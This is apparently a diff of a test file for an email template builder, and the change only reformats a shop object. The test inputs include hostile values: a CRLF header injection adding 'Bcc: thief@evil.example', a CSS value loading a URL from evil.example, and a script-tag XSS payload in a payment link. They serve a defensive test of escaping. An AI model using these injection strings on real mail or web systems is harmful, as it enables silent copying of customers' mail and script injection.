@@ -155,7 +155,11 @@ describe('every mail', () => {
     const { html, subject } = make({
       ...view,
       language,
-      shop: { name: `${hostile}\r\nBcc: thief@evil.example`, contact: hostile, colour: 'red;background:url(//evil.example)' },
+      shop: {
+        name: `${hostile}\r\nBcc: thief@evil.example`,
+        contact: hostile,
+        colour: 'red;background:url(//evil.example)',
+      },
       orderId: hostile,
       url: 'https://pay.kopi.example/pay/abc?a="><script>alert(1)</script>',
       customerName: hostile,
